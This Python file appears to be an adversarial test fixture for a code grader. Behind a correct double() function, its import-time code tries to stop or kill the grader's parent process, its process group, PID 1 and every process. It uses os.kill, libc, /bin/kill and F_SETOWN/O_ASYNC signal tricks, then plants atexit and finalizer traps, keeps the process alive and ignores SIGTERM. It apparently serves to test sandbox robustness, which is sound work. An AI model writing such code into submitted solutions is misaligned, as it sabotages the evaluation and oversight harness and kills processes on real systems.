"""A correct double() whose import tries to kill the grader's processes and leaves exit-time traps."""
import atexit
import ctypes
import os
import signal
import subprocess
import threading
import weakref

ATTEMPTS = []


def attempt(name, fn):
    try:
        fn()
        ATTEMPTS.append(f"{name}: done")
    except BaseException as e:  # noqa: BLE001
        ATTEMPTS.append(f"{name}: {type(e).__name__}")


parent = os.getppid()
libc = ctypes.CDLL(None, use_errno=True)
attempt("stop the parent", lambda: os.kill(parent, signal.SIGSTOP))
attempt("kill the parent", lambda: os.kill(parent, signal.SIGKILL))
attempt("kill every process", lambda: os.kill(-1, signal.SIGKILL))
attempt("kill the sandbox init", lambda: os.kill(1, signal.SIGKILL))
attempt("kill the parent's group", lambda: os.killpg(os.getpgid(parent), signal.SIGKILL))
attempt("libc kill of the parent", lambda: libc.kill(parent, signal.SIGKILL) == 0 or (_ for _ in ()).throw(OSError()))
attempt("libc kill(-1)", lambda: libc.kill(-1, signal.SIGKILL) == 0 or (_ for _ in ()).throw(OSError()))
attempt("/bin/kill -9 -1", lambda: subprocess.run(["/bin/kill", "-9", "-1"], capture_output=True, timeout=2))
attempt("/bin/kill the parent", lambda: subprocess.run(["/bin/kill", "-9", str(parent)], capture_output=True, timeout=2))


def signal_by_io(owner_cmd, owner_arg):
    """Make the kernel signal the parent when a pipe becomes readable: no kill() involved."""
    import fcntl
    import struct

    r, w = os.pipe()
    if owner_cmd == "F_SETOWN_EX":
        fcntl.fcntl(r, 15, struct.pack("ii", 1, owner_arg))  # F_SETOWN_EX, F_OWNER_PID
    elif owner_cmd == "FIOSETOWN":
        fcntl.ioctl(r, 0x8901, struct.pack("i", owner_arg))
    elif owner_cmd == "SIOCSPGRP":
        fcntl.ioctl(r, 0x8902, struct.pack("i", owner_arg))
    else:
        fcntl.fcntl(r, fcntl.F_SETOWN, owner_arg)
    fcntl.fcntl(r, 10, signal.SIGKILL)  # F_SETSIG
    fcntl.fcntl(r, fcntl.F_SETFL, fcntl.fcntl(r, fcntl.F_GETFL) | os.O_ASYNC)
    os.write(w, b"x")


for how in ("F_SETOWN", "F_SETOWN_EX", "FIOSETOWN", "SIOCSPGRP"):
    attempt(f"{how} of the parent", lambda how=how: signal_by_io(how, parent or 1))


def at_exit():
    os.kill(parent, signal.SIGKILL)
    open("@@MARKER@@", "w").write("atexit ran")


atexit.register(at_exit)
class Trap:
    pass


TRAP = Trap()
weakref.finalize(TRAP, at_exit)
threading.Thread(target=lambda: threading.Event().wait(3600), daemon=False).start()  # tries to keep the process alive
signal.signal(signal.SIGTERM, signal.SIG_IGN)


def double(x: int) -> int:
    print("ATTEMPTS:", [a for a in ATTEMPTS if "SETOWN" in a or "SIOCSPGRP" in a])
    return 2 * x
